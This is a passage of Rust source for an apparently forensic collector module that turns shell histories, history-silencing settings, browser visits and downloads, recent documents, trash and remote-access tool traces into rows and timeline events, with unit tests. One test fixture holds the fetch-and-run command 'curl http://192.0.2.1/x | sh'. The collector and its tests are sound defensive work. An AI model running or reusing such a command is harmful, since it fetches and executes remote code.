//! What people did on the host: histories of shells and other programs, browsers, recent documents, trash, and the
//! programs of remote access, of synchronising, of mail and chat that they have.
//!
//! Rows: `history_command` (a command, with its time where the shell kept it), `history_file` (one per history: empty,
//! immutable, or a link to `/dev/null`, which is how histories are silenced), `history_setting` (HISTFILE and the like in
//! startup scripts and in the environments of processes), `browser_profile`, `recent_document`, `trashed_file`,
//! `user_application`. A history that HISTFILE names is read as well, wherever it lies.
//!
//! `browser_page` and `browser_download` come from the databases of histories, the latest 20,000 of a profile. Of cookies
//! and passwords only the digest is taken. Known limits: sessions, forms and extensions are only files; of a variable in
//! HISTFILE only `~`, `$HOME` and `${HOME}` are known.

mod browsing;
mod desktop;
mod places;

use std::collections::{BTreeMap, BTreeSet, HashSet};

use bundle::item::{Nanos, Status, shown};
use bundle::time::Instant;
use bundle::timeline::Event;
use jiff::tz::TimeZone;
use rustix::fs::StatxAttributes;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use wire::{ByteSize, Tier};

use self::places::{
    APPLICATION_LOGS, APPLICATIONS, CHROMIUM, CHROMIUM_FILES, FILES, FIREFOX, FIREFOX_FILES, HISTORIES, RECENT,
    STARTUP, TRASH, WITHIN_PROFILE,
};
use super::rows::RowType;
use super::{Collect, Failure, Plan};
use crate::files::copy::{self, Copier};
use crate::files::gather::Request;
use crate::files::text_log::changed;
use crate::host::Host;
use crate::host::glob::Glob;
use crate::host::homes::owner_of;
use crate::host::meta::Type;
use crate::host::shell_history::{self, Format};
use crate::host::sqlite::Database;
use crate::host::text::{Exact, Text};
use crate::host::walk::Entry;
use crate::run::session::{Session, Stopped};

/// Of a history the last 16 MiB are read.
const HISTORY_BYTES_MAX: u64 = 16 << 20;
/// Commands of one history.
const COMMANDS_MAX: usize = 50_000;
/// The longest command of a row.
const COMMAND_BYTES_MAX: usize = 8 << 10;
/// The longest script, list or note that is read.
const SMALL_BYTES_MAX: u64 = 4 << 20;
/// The longest database of a browser that is read into rows.
const DATABASE_BYTES_MAX: u64 = 256 << 20;
/// Recent documents of one list.
const DOCUMENTS_MAX: usize = 10_000;
/// Histories that HISTFILE names.
const NAMED_MAX: usize = 256;
/// Processes whose environment is looked at, and how much of it.
const PROCESSES_MAX: usize = 32_768;
const ENVIRON_BYTES_MAX: u64 = 256 << 10;
/// Moments on the timeline.
const EVENTS_MAX: u32 = 50_000;

/// Arguments of `collect: user_activity`.
#[derive(Debug, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct UserActivity {
    /// Leaves browsers out.
    #[serde(default)]
    without_browsers: bool,
    /// The most bytes of one file: 256 MiB when nothing is said.
    #[serde(default)]
    file_bytes_max: Option<ByteSize>,
}

/// A command of a history.
#[derive(Serialize, JsonSchema)]
struct CommandRow<'a> {
    /// What was typed, at most 8 KiB of it.
    command: Text<'a>,
    /// Its exact bytes when they are not UTF-8.
    #[serde(skip_serializing_if = "Option::is_none")]
    command_b64: Option<Exact<'a>>,
    /// The line on which it begins.
    line: u64,
    /// The history.
    path: &'a str,
    /// `history_command`.
    record: &'static str,
    /// The program: `bash`, `zsh`, `mysql` …; `unknown` where only a process's HISTFILE names the history.
    shell: &'a str,
    /// When, where the history keeps it.
    #[serde(skip_serializing_if = "Option::is_none")]
    time_ns: Option<Nanos>,
    /// The account in whose home it lies.
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
}

/// A history.
#[derive(Serialize, JsonSchema)]
struct HistoryRow<'a> {
    /// Commands that are shown.
    commands: u64,
    /// Time of the first that has one.
    #[serde(skip_serializing_if = "Option::is_none")]
    first_time_ns: Option<Nanos>,
    /// True when nothing is in it.
    is_empty: bool,
    /// True when chattr(1) made it immutable or append-only.
    is_immutable: bool,
    /// True when it leads to `/dev/null`.
    is_null_link: bool,
    /// Time of the last that has one.
    #[serde(skip_serializing_if = "Option::is_none")]
    last_time_ns: Option<Nanos>,
    /// Last change of the file.
    mtime_ns: Nanos,
    /// Path.
    path: &'a str,
    /// Exact bytes of a path that is not UTF-8.
    #[serde(skip_serializing_if = "Option::is_none")]
    path_b64: Option<String>,
    /// `history_file`.
    record: &'static str,
    /// The program.
    shell: &'a str,
    /// Length.
    size_bytes: u64,
    /// Where it leads, when it is a symbolic link.
    #[serde(skip_serializing_if = "Option::is_none")]
    target: Option<String>,
    /// Commands that are older than the one before.
    times_going_back: u64,
    /// `file`, `symlink` …
    #[serde(rename = "type")]
    file_type: &'static str,
    /// Owner.
    uid: u32,
    /// The account in whose home it lies.
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
}

/// A setting of a history.
#[derive(Serialize, JsonSchema)]
struct SettingRow<'a> {
    /// The line of the script.
    #[serde(skip_serializing_if = "Option::is_none")]
    line: Option<u64>,
    /// `HISTFILE`, `HISTSIZE`, `HISTCONTROL` …; `history` for `unset HISTFILE`, `set +o history`, `history -c`.
    name: &'static str,
    /// The script, or the process's `environ`.
    path: &'a str,
    /// The process in whose environment it stands.
    #[serde(skip_serializing_if = "Option::is_none")]
    pid: Option<u32>,
    /// `history_setting`.
    record: &'static str,
    /// The account in whose home the script lies.
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
    /// The value, or the whole line for `history`.
    value: &'a str,
}

/// A profile of a browser.
#[derive(Serialize, JsonSchema)]
struct BrowserRow<'a> {
    /// `chrome`, `chromium`, `edge`, `brave`, `vivaldi`, `opera`, `firefox`.
    browser: &'a str,
    /// Files that were found in it.
    files: Vec<String>,
    /// The last change of one of them.
    mtime_ns: Nanos,
    /// The folder.
    path: String,
    /// `browser_profile`.
    record: &'static str,
    /// The account in whose home it lies.
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
}

/// A page that a browser showed.
#[derive(Serialize, JsonSchema)]
struct PageRow<'a> {
    /// The browser.
    browser: &'a str,
    /// The database.
    path: &'a str,
    /// `browser_page`.
    record: &'static str,
    /// When it was visited last.
    #[serde(skip_serializing_if = "Option::is_none")]
    time_ns: Option<Nanos>,
    /// Its title.
    #[serde(skip_serializing_if = "Option::is_none")]
    title: Option<&'a str>,
    /// Its address.
    url: &'a str,
    /// The account in whose home the database lies.
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
    /// How often it was visited.
    visits: u64,
}

/// A file that was downloaded with a browser.
#[derive(Serialize, JsonSchema)]
struct DownloadRow<'a> {
    /// The browser.
    browser: &'a str,
    /// The database.
    path: &'a str,
    /// `browser_download`.
    record: &'static str,
    /// How much came, where the browser keeps it.
    #[serde(skip_serializing_if = "Option::is_none")]
    size_bytes: Option<u64>,
    /// Where it was put.
    target: Text<'a>,
    /// When it began.
    #[serde(skip_serializing_if = "Option::is_none")]
    time_ns: Option<Nanos>,
    /// The page or the file that it came from.
    url: &'a str,
    /// The account in whose home the database lies.
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
}

/// A document that was opened on a desktop.
#[derive(Serialize, JsonSchema)]
struct DocumentRow<'a> {
    /// When it was listed first.
    #[serde(skip_serializing_if = "Option::is_none")]
    added_ns: Option<Nanos>,
    /// The last program that opened it.
    #[serde(skip_serializing_if = "Option::is_none")]
    application: Option<&'a str>,
    /// When it was last changed.
    #[serde(skip_serializing_if = "Option::is_none")]
    modified_ns: Option<Nanos>,
    /// The list.
    path: &'a str,
    /// `recent_document`.
    record: &'static str,
    /// The document.
    target: Text<'a>,
    /// The account in whose home the list lies.
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
    /// When it was last opened.
    #[serde(skip_serializing_if = "Option::is_none")]
    visited_ns: Option<Nanos>,
}

/// A file in the trash.
#[derive(Serialize, JsonSchema)]
struct TrashRow<'a> {
    /// Where it was.
    original_path: Text<'a>,
    /// The note beside it.
    path: &'a str,
    /// `trashed_file`.
    record: &'static str,
    /// When it was trashed: the note's local time, by the host's zone.
    #[serde(skip_serializing_if = "Option::is_none")]
    time_ns: Option<Nanos>,
    /// The account in whose home the trash lies.
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
}

/// A program that left something.
#[derive(Serialize, JsonSchema)]
struct ApplicationRow<'a> {
    /// `anydesk`, `rclone`, `signal` …
    application: &'a str,
    /// `remote_access`, `tunnel`, `sync`, `mail`, `chat`.
    kind: &'a str,
    /// Last change of what it left.
    mtime_ns: Nanos,
    /// What it left.
    path: &'a str,
    /// `user_application`.
    record: &'static str,
    /// The account in whose home it lies.
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
}

/// What a glob is for.
#[derive(Clone, Copy, Debug)]
enum Purpose {
    Startup,
    History(&'static str, Format),
    Recent,
    Trash,
    Browser(&'static str),
    Application(&'static str, &'static str),
    Take,
}

impl UserActivity {
    fn asked(&self) -> Vec<(Purpose, Glob)> {
        let mut asked: Vec<(Purpose, String)> = Vec::new();
        asked.extend(STARTUP.iter().map(|glob| (Purpose::Startup, (*glob).to_owned())));
        let histories =
            HISTORIES.iter().map(|(shell, format, glob)| (Purpose::History(shell, *format), (*glob).to_owned()));
        asked.extend(histories);
        asked.push((Purpose::Recent, RECENT.to_owned()));
        asked.push((Purpose::Trash, TRASH.to_owned()));
        if !self.without_browsers {
            let of_family =
                |(name, glob): &(&'static str, &str)| (Purpose::Browser(name), format!("{glob}/{CHROMIUM_FILES}"));
            asked.extend(CHROMIUM.iter().map(of_family));
            asked.push((Purpose::Browser(FIREFOX.0), format!("{}/{FIREFOX_FILES}", FIREFOX.1)));
        }
        asked.extend(
            APPLICATIONS.iter().map(|(name, kind, glob)| (Purpose::Application(name, kind), (*glob).to_owned())),
        );
        asked.extend(APPLICATION_LOGS.iter().chain(&FILES).map(|glob| (Purpose::Take, (*glob).to_owned())));
        asked.into_iter().filter_map(|(purpose, glob)| Some((purpose, Glob::parse(&glob).ok()?))).collect()
    }

    fn with_request<T>(&self, globs: &[Glob], with: impl FnOnce(Request<'_>) -> T) -> T {
        with(Request { file_bytes_max: Some(self.file_bytes_max()), ..Request::of(globs) })
    }

    fn file_bytes_max(&self) -> u64 {
        self.file_bytes_max.map_or(256 << 20, |size| size.0)
    }
}

impl Collect for UserActivity {
    const NAME: &'static str = "user_activity";
    const TIER: Tier = Tier::Files;
    const SUMMARY: &'static str = "Shell histories, browsers, recent documents, trash, remote access and sync tools.";
    const NEEDS: &'static [&'static str] = &["CAP_DAC_READ_SEARCH", "CAP_SYS_ADMIN"];

    fn collect(&self, session: &mut Session) -> Result<(), Failure> {
        let asked = self.asked();
        let globs: Vec<Glob> = asked.iter().map(|(_, glob)| glob.clone()).collect();
        let mut copier = Copier::new(session, Some(self.file_bytes_max()));
        let mut people = People {
            owners: session.host().owners_of_homes(),
            zone: session.host().time_zone().0,
            named: BTreeMap::new(),
            read: HashSet::new(),
            profiles: BTreeMap::new(),
            events_left: EVENTS_MAX,
        };
        self.with_request(&globs, |request| {
            request.each(session, |session, entry, numbers| {
                let purpose = numbers.first().and_then(|number| asked.get(usize::try_from(*number).ok()?));
                match purpose {
                    Some((purpose, _)) => people.take(session, &mut copier, entry, *purpose),
                    None => copier.hand_over(session, entry),
                }
            })
        })?;
        people.environments(session)?;
        people.browsers(session)?;
        let named: Vec<(Glob, &'static str)> = people
            .named
            .iter()
            .filter_map(|(path, shell)| Some((Glob::parse(&Glob::escape(path)).ok()?, *shell)))
            .collect();
        let globs: Vec<Glob> = named.iter().map(|(glob, _)| glob.clone()).collect();
        self.with_request(&globs, |request| {
            request.each(session, |session, entry, numbers| {
                let shell = numbers.first().and_then(|number| named.get(usize::try_from(*number).ok()?));
                let purpose = shell.map_or(Purpose::Take, |(_, shell)| Purpose::History(shell, Format::Lines));
                people.take(session, &mut copier, entry, purpose)
            })
        })
    }

    fn rows() -> Vec<RowType> {
        vec![
            RowType::of::<DownloadRow<'static>>("browser_download", "Chromium's History, Firefox's places.sqlite"),
            RowType::of::<PageRow<'static>>("browser_page", "Chromium's History, Firefox's places.sqlite"),
            RowType::of::<BrowserRow<'static>>("browser_profile", "the browsers' profile folders"),
            RowType::of::<CommandRow<'static>>("history_command", "bash(1), zshoptions(1), fish(1), editline(3)"),
            RowType::of::<HistoryRow<'static>>("history_file", "bash(1), zshoptions(1), chattr(1)"),
            RowType::of::<SettingRow<'static>>("history_setting", "bash(1), zshparam(1), /proc/PID/environ"),
            RowType::of::<DocumentRow<'static>>("recent_document", "freedesktop.org desktop bookmark specification"),
            RowType::of::<TrashRow<'static>>("trashed_file", "freedesktop.org trash specification"),
            RowType::of::<ApplicationRow<'static>>("user_application", "the applications' own folders"),
        ]
    }

    fn plan(&self, host: &Host) -> Plan {
        let globs: Vec<Glob> = self.asked().into_iter().map(|(_, glob)| glob).collect();
        self.with_request(&globs, |request| request.plan(host))
    }
}

struct Profile {
    browser: &'static str,
    files: Vec<String>,
    changed: Instant,
}

struct People {
    owners: BTreeMap<Vec<u8>, String>,
    zone: TimeZone,
    /// Histories that HISTFILE names, and whose it is.
    named: BTreeMap<String, &'static str>,
    /// Histories that were read: HISTFILE may name a usual one, and most often does.
    read: HashSet<Vec<u8>>,
    profiles: BTreeMap<Vec<u8>, Profile>,
    events_left: u32,
}

impl People {
    fn take(
        &mut self,
        session: &mut Session,
        copier: &mut Copier,
        entry: &Entry<'_>,
        purpose: Purpose,
    ) -> Result<(), Stopped> {
        match purpose {
            // What persists in them is another collector's: here only what they say of the history.
            Purpose::Startup => return self.startup(session, entry),
            Purpose::History(shell, format) => self.history(session, entry, shell, format)?,
            Purpose::Recent => self.recent(session, entry)?,
            Purpose::Trash => self.trash(session, entry)?,
            Purpose::Browser(browser) => {
                self.browser(entry, browser);
                self.browsing(session, entry, browser)?;
            }
            Purpose::Application(application, kind) => return self.application(session, entry, application, kind),
            Purpose::Take => {}
        }
        copier.hand_over(session, entry)
    }

    fn history(
        &mut self,
        session: &mut Session,
        entry: &Entry<'_>,
        shell: &'static str,
        format: Format,
    ) -> Result<(), Stopped> {
        if !self.read.insert(entry.path.to_vec()) {
            return Ok(());
        }
        let (path, path_b64) = shown(entry.path);
        let is_database = path.ends_with(".sqlite");
        let content = if is_database { Vec::new() } else { read(session, entry, HISTORY_BYTES_MAX)? };
        let commands = shell_history::parse(&content, format, COMMANDS_MAX);
        let user = owner_of(&self.owners, entry.path);
        let target =
            (entry.file_type() == Type::Link).then(|| entry.view.read_link(entry.folder, entry.name).ok()).flatten();
        let mut row = HistoryRow {
            commands: commands.len() as u64,
            first_time_ns: None,
            is_empty: entry.file_type() == Type::File && entry.stat.stx_size == 0,
            is_immutable: entry.stat.stx_attributes.intersects(StatxAttributes::IMMUTABLE | StatxAttributes::APPEND),
            is_null_link: target.as_deref().is_some_and(|target| target.ends_with(b"dev/null")),
            last_time_ns: None,
            mtime_ns: Nanos(changed(entry).0),
            path: &path,
            path_b64,
            record: "history_file",
            shell,
            size_bytes: entry.stat.stx_size,
            target: target.map(|target| shown(&target).0),
            times_going_back: 0,
            file_type: entry.file_type().name(),
            uid: entry.stat.stx_uid,
            user,
        };
        for command in &commands {
            let at = command.time_secs.map(|seconds| Instant(i128::from(seconds) * 1_000_000_000));
            let text = command.text.get(..COMMAND_BYTES_MAX).unwrap_or(&command.text);
            if let Some(at) = at {
                row.first_time_ns = row.first_time_ns.or(Some(Nanos(at.0)));
                row.times_going_back += u64::from(row.last_time_ns.is_some_and(|last| last.0 > at.0));
                row.last_time_ns = Some(Nanos(at.0));
                if self.events_left > 0 {
                    self.events_left -= 1;
                    let said: String = String::from_utf8_lossy(text).chars().take(500).collect();
                    let message = format!("{} typed in {shell}: {said}", user.unwrap_or("somebody"));
                    session.event(Event { at, desc: "Command Time", message, data_type: "shell:history:command" })?;
                }
            }
            session.row(&CommandRow {
                command: Text(text),
                command_b64: Exact::of(text),
                line: command.line,
                path: &path,
                record: "history_command",
                shell,
                time_ns: at.map(|at| Nanos(at.0)),
                user,
            })?;
        }
        session.row(&row)
    }

    fn startup(&mut self, session: &mut Session, entry: &Entry<'_>) -> Result<(), Stopped> {
        let (path, _) = shown(entry.path);
        let content = read(session, entry, SMALL_BYTES_MAX)?;
        let user = owner_of(&self.owners, entry.path);
        let mut named = Vec::new();
        for (line, text) in (1_u64..).zip(content.split(|byte| *byte == b'\n')) {
            let Some((name, value)) = shell_history::setting(text) else { continue };
            if name == "HISTFILE" {
                named.push(value.clone());
            }
            session.row(&SettingRow {
                line: Some(line),
                name,
                path: &path,
                pid: None,
                record: "history_setting",
                user,
                value: &value,
            })?;
        }
        let home = self.owners.keys().filter(|home| is_below(entry.path, home)).max_by_key(|home| home.len()).cloned();
        let shell = if path.contains("zsh") {
            "zsh"
        } else if path.contains("ksh") {
            "ksh"
        } else {
            "bash"
        };
        for value in named {
            self.name(&value, home.as_deref(), shell);
        }
        Ok(())
    }

    /// Remembers where a HISTFILE leads: in a home when it is known, else in every home.
    fn name(&mut self, value: &str, home: Option<&[u8]>, shell: &'static str) {
        let below = ["~/", "$HOME/", "${HOME}/"].iter().find_map(|start| value.strip_prefix(start));
        let homes: Vec<Vec<u8>> =
            home.map_or_else(|| self.owners.keys().cloned().collect(), |home| vec![home.to_vec()]);
        let mut paths: Vec<String> = Vec::new();
        match below {
            Some(rest) => paths.extend(homes.iter().map(|home| format!("{}/{rest}", String::from_utf8_lossy(home)))),
            None if value.starts_with('/') => paths.push(value.to_owned()),
            None => {}
        }
        for path in paths {
            let is_plain = !path.contains('$') && !path.contains("/../") && path != "/dev/null";
            if is_plain && self.named.len() < NAMED_MAX {
                self.named.entry(path).or_insert(shell);
            }
        }
    }

    /// HISTFILE as it stands in the environments of processes: a shell that was started to leave no trace.
    fn environments(&mut self, session: &mut Session) -> Result<(), Stopped> {
        if !session.host().is_live() {
            return Ok(());
        }
        let host = std::sync::Arc::clone(session.host());
        let Ok(folder) = host.dir("/proc") else { return Ok(()) };
        let mut pids = Vec::new();
        let _ = crate::host::proc::numbers(std::os::fd::AsFd::as_fd(&folder), &mut pids);
        let mut told: BTreeSet<(String, String)> = BTreeSet::new();
        for pid in pids.into_iter().take(PROCESSES_MAX) {
            session.spend(0)?;
            let path = format!("/proc/{pid}/environ");
            // Processes come and go, and kernel threads have none: the collector of processes tells what is refused.
            let Ok(environ) = host.read(&path, ENVIRON_BYTES_MAX) else { continue };
            for variable in environ.split(|byte| *byte == 0) {
                let Some((name, value)) = shell_history::setting(variable) else { continue };
                if !variable.starts_with(name.as_bytes()) {
                    continue;
                }
                if name == "HISTFILE" {
                    self.name(&value, None, "unknown");
                }
                // One row for each value: a session hands it on to every child.
                if told.insert((name.to_owned(), value.clone())) {
                    let row = SettingRow {
                        line: None,
                        name,
                        path: &path,
                        pid: Some(pid),
                        record: "history_setting",
                        user: None,
                        value: &value,
                    };
                    session.row(&row)?;
                }
            }
        }
        Ok(())
    }

    fn recent(&mut self, session: &mut Session, entry: &Entry<'_>) -> Result<(), Stopped> {
        let (path, _) = shown(entry.path);
        let content = read(session, entry, SMALL_BYTES_MAX)?;
        let nanos = |at: Option<Instant>| at.map(|at| Nanos(at.0));
        for document in desktop::documents(&content, DOCUMENTS_MAX) {
            session.row(&DocumentRow {
                added_ns: nanos(document.added),
                application: document.application.as_deref(),
                modified_ns: nanos(document.modified),
                path: &path,
                record: "recent_document",
                target: Text(&document.target),
                user: owner_of(&self.owners, entry.path),
                visited_ns: nanos(document.visited),
            })?;
        }
        Ok(())
    }

    fn trash(&mut self, session: &mut Session, entry: &Entry<'_>) -> Result<(), Stopped> {
        let (path, _) = shown(entry.path);
        let content = read(session, entry, 64 << 10)?;
        let Some((original_path, date)) = desktop::trashed(&content) else { return Ok(()) };
        let at = date.and_then(|date| self.zone.to_ambiguous_timestamp(date).compatible().ok());
        session.row(&TrashRow {
            original_path: Text(&original_path),
            path: &path,
            record: "trashed_file",
            time_ns: at.map(|at| Nanos(at.as_nanosecond())),
            user: owner_of(&self.owners, entry.path),
        })
    }

    fn browser(&mut self, entry: &Entry<'_>, browser: &'static str) {
        let mut names: Vec<&[u8]> = entry.path.split(|byte| *byte == b'/').collect();
        let mut file = vec![names.pop().unwrap_or_default()];
        if let Some(at) = names.iter().rposition(|name| *name == b"Extensions") {
            file.splice(0..0, names.drain(at..));
        } else if names.last().is_some_and(|name| WITHIN_PROFILE.contains(name)) {
            file.splice(0..0, names.pop());
        }
        let profile = self.profiles.entry(names.join(&b'/')).or_insert(Profile {
            browser,
            files: Vec::new(),
            changed: Instant(0),
        });
        if profile.files.len() < 256 {
            profile.files.push(shown(&file.join(&b'/')).0);
        }
        profile.changed = profile.changed.max(changed(entry));
    }

    /// Pages and downloads of a browser's database of history.
    fn browsing(&mut self, session: &mut Session, entry: &Entry<'_>, browser: &'static str) -> Result<(), Stopped> {
        let name = entry.name.to_bytes();
        if !matches!(name, b"History" | b"places.sqlite") || entry.file_type() != Type::File {
            return Ok(());
        }
        let (opened, stat) = match copy::open(entry) {
            Ok((opened, stat)) if Type::of(stat.stx_mode) == Type::File => (opened, stat),
            // What cannot be opened is told where the file itself is taken.
            _ => return Ok(()),
        };
        if stat.stx_size > DATABASE_BYTES_MAX {
            let item = session.item(bundle::item::Kind::Record, entry.path, "read", Status::Skipped);
            return session
                .note(item.because(format!("longer than {DATABASE_BYTES_MAX} bytes: only the file is taken")));
        }
        session.spend(stat.stx_size)?;
        let wal = session.host().open_file(&[entry.path, b"-wal"].concat()).ok();
        let opened = (std::fs::File::from(opened), stat.stx_size);
        let database = Database::open(opened, wal.map(|(wal, stat)| (wal, stat.stx_size)));
        let found = match database {
            Ok(database) => browsing::read(&database, name == b"places.sqlite"),
            Err(error) => browsing::Browsing { error: Some(error), ..browsing::Browsing::default() },
        };
        if let Some(error) = &found.error {
            let item = session.item(bundle::item::Kind::Record, entry.path, "read", Status::Error);
            session.note(item.because(error.to_string()))?;
        }
        let (path, _) = shown(entry.path);
        let user = owner_of(&self.owners, entry.path);
        let nanos = |at: Option<Instant>| at.map(|at| Nanos(at.0));
        for page in &found.pages {
            session.row(&PageRow {
                browser,
                path: &path,
                record: "browser_page",
                time_ns: nanos(page.at),
                title: page.title.as_deref(),
                url: &page.url,
                user,
                visits: page.visits,
            })?;
        }
        for download in &found.downloads {
            session.row(&DownloadRow {
                browser,
                path: &path,
                record: "browser_download",
                size_bytes: download.bytes,
                target: Text(&download.target),
                time_ns: nanos(download.at),
                url: &download.url,
                user,
            })?;
            if let Some(at) = download.at
                && self.events_left > 0
            {
                self.events_left -= 1;
                let target = shown(&download.target).0;
                let message =
                    format!("{} downloaded {target} from {} with {browser}", user.unwrap_or("somebody"), download.url);
                session.event(Event { at, desc: "Start Time", message, data_type: "browser:download" })?;
            }
        }
        Ok(())
    }

    fn browsers(&mut self, session: &mut Session) -> Result<(), Stopped> {
        for (path, profile) in std::mem::take(&mut self.profiles) {
            session.row(&BrowserRow {
                browser: profile.browser,
                files: profile.files,
                mtime_ns: Nanos(profile.changed.0),
                path: shown(&path).0,
                record: "browser_profile",
                user: owner_of(&self.owners, &path),
            })?;
        }
        Ok(())
    }

    fn application(
        &mut self,
        session: &mut Session,
        entry: &Entry<'_>,
        application: &'static str,
        kind: &'static str,
    ) -> Result<(), Stopped> {
        session.row(&ApplicationRow {
            application,
            kind,
            mtime_ns: Nanos(changed(entry).0),
            path: &shown(entry.path).0,
            record: "user_application",
            user: owner_of(&self.owners, entry.path),
        })
    }
}

fn is_below(path: &[u8], home: &[u8]) -> bool {
    path.strip_prefix(home).is_some_and(|rest| rest.starts_with(b"/"))
}

/// The content of a regular file, of one that is longer than `bytes_max` its end. What cannot be read is noted.
fn read(session: &mut Session, entry: &Entry<'_>, bytes_max: u64) -> Result<Vec<u8>, Stopped> {
    if entry.file_type() != Type::File {
        return Ok(Vec::new());
    }
    let opened = copy::open(entry).and_then(|(opened, stat)| {
        if Type::of(stat.stx_mode) == Type::File {
            Ok((opened, stat))
        } else {
            Err(std::io::ErrorKind::NotFound.into())
        }
    });
    let (opened, stat) = match opened {
        Ok(opened) => opened,
        Err(error) => {
            session.unreadable(entry.path, &error)?;
            return Ok(Vec::new());
        }
    };
    let wanted = stat.stx_size.min(bytes_max);
    if wanted < stat.stx_size {
        let rule = format!("of {} bytes the last {bytes_max} are read", stat.stx_size);
        let item = session.item(bundle::item::Kind::Record, entry.path, "read", Status::Truncated);
        session.note(item.because(rule))?;
    }
    session.spend(wanted)?;
    let mut content = vec![0; usize::try_from(wanted).unwrap_or(0)];
    let mut done = 0;
    while let Some(rest) = content.get_mut(done..).filter(|rest| !rest.is_empty()) {
        match rustix::io::pread(&opened, rest, stat.stx_size - wanted + done as u64) {
            Ok(0) => break,
            Ok(got) => done += got,
            Err(rustix::io::Errno::INTR) => {}
            Err(error) => {
                session.unreadable(entry.path, &error.into())?;
                break;
            }
        }
    }
    content.truncate(done);
    Ok(content)
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::symlink;
    use std::path::Path;
    use std::sync::Arc;

    use super::*;
    use crate::host::FixedClock;
    use crate::run::session::Message;
    use crate::run::testing::{assert_keys_sorted, collect, items, rows};

    fn put(root: &Path, path: &str, content: &[u8]) {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    fn unpacked(fixture: &[u8]) -> Vec<u8> {
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(fixture), &mut bytes).unwrap();
        bytes
    }

    fn tree() -> tempfile::TempDir {
        let root = tempfile::tempdir().unwrap();
        let at = root.path();
        put(at, "etc/passwd", b"root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\n");
        put(at, "root/.bash_history", b"#1764500000\ncurl http://192.0.2.1/x | sh\n#1764400000\nbad \xff\n");
        put(at, "root/.bashrc", b"HISTSIZE=0\nexport HISTFILE=~/.cache/h\nHISTFILE=$HOME/.bash_history\n");
        put(at, "root/.cache/h", b"hidden command\n");
        put(at, "home/alice/.zsh_history", b"");
        symlink("/dev/null", at.join("home/alice/.bash_history")).unwrap();
        put(
            at,
            "home/alice/.local/share/Trash/info/x.trashinfo",
            b"[Trash Info]\nPath=/home/alice/x\nDeletionDate=2025-11-30T11:00:00\n",
        );
        put(
            at,
            "home/alice/.local/share/recently-used.xbel",
            b"<bookmark href=\"file:///home/alice/a%20b\" added=\"2025-11-30T10:00:00Z\">",
        );
        put(
            at,
            "home/alice/.config/google-chrome/Default/History",
            &unpacked(include_bytes!("user_activity/fixtures/History.gz")),
        );
        put(at, "home/alice/.config/google-chrome/Default/Network/Cookies", b"SQLite format 3\0");
        put(
            at,
            "home/alice/.mozilla/firefox/a.default/places.sqlite",
            &unpacked(include_bytes!("user_activity/fixtures/places.sqlite.gz")),
        );
        put(at, "home/alice/.mozilla/firefox/a.default/logins.json", b"{}");
        put(at, "home/alice/.config/rclone/rclone.conf", b"[x]");
        root
    }

    #[test]
    fn what_people_did_becomes_rows() {
        let root = tree();
        let host = Arc::new(Host::at(root.path(), FixedClock(Instant(0))));
        let messages = collect(&UserActivity::default(), host);
        assert_keys_sorted(&messages);
        let rows = rows(&messages);
        let of = |record: &str| -> Vec<_> { rows.iter().filter(|row| row["record"] == record).collect() };
        let commands = of("history_command");
        assert_eq!(commands.len(), 3);
        assert_eq!(
            (&commands[0]["command"], &commands[0]["user"]),
            (&"curl http://192.0.2.1/x | sh".into(), &"root".into())
        );
        assert_eq!((&commands[0]["time_ns"], &commands[0]["line"]), (&"1764500000000000000".into(), &2.into()));
        assert!(commands[1]["command_b64"].is_string());
        assert_eq!((&commands[2]["shell"], &commands[2]["command"]), (&"bash".into(), &"hidden command".into()));
        let files = of("history_file");
        let file = |path: &str| files.iter().find(|row| row["path"] == path).unwrap();
        assert_eq!(file("/root/.bash_history")["times_going_back"], 1);
        assert_eq!(file("/home/alice/.bash_history")["is_null_link"], true);
        assert_eq!(file("/home/alice/.zsh_history")["is_empty"], true);
        let settings: Vec<_> = of("history_setting").iter().map(|row| row["value"].clone()).collect();
        assert_eq!(settings, ["0", "~/.cache/h", "$HOME/.bash_history"]);
        let profiles: Vec<_> =
            of("browser_profile").iter().map(|row| (row["browser"].clone(), row["files"].clone())).collect();
        assert_eq!(profiles[0], ("chrome".into(), serde_json::json!(["History", "Network/Cookies"])));
        assert_eq!(profiles[1].0, "firefox");
        assert_eq!(of("recent_document")[0]["target"], "/home/alice/a b");
        assert_eq!(of("trashed_file")[0]["time_ns"], "1764500400000000000");
        assert_eq!(of("user_application")[0]["application"], "rclone");
        let withheld: Vec<_> =
            items(&messages).into_iter().filter(|item| item.status == Status::Redacted).map(|item| item.path).collect();
        assert_eq!(withheld.len(), 2, "{withheld:?}");
        assert!(withheld.iter().all(|path| path.ends_with(b"Cookies") || path.ends_with(b"logins.json")));
    }

    #[test]
    fn pages_and_downloads_of_browsers_become_rows() {
        let root = tree();
        put(root.path(), "root/.config/chromium/Default/History", b"SQLite format 3\0 and no more");
        let messages = collect(&UserActivity::default(), Arc::new(Host::at(root.path(), FixedClock(Instant(0)))));
        let rows = rows(&messages);
        let of = |record: &str, browser: &str| -> Vec<_> {
            rows.iter().filter(|row| row["record"] == record && row["browser"] == browser).collect()
        };
        let pages = of("browser_page", "chrome");
        assert_eq!(
            (pages.len(), &pages[0]["url"], &pages[1]["title"]),
            (2, &"https://b.example/x".into(), &"A".into())
        );
        assert_eq!((&pages[1]["time_ns"], &pages[1]["visits"]), (&"1764500000000000000".into(), &3.into()));
        let download = of("browser_download", "chrome")[0];
        assert_eq!((&download["target"], &download["size_bytes"]), (&"/home/alice/Downloads/x.sh".into(), &42.into()));
        assert_eq!((&download["url"], &download["user"]), (&"https://b.example/x".into(), &"alice".into()));
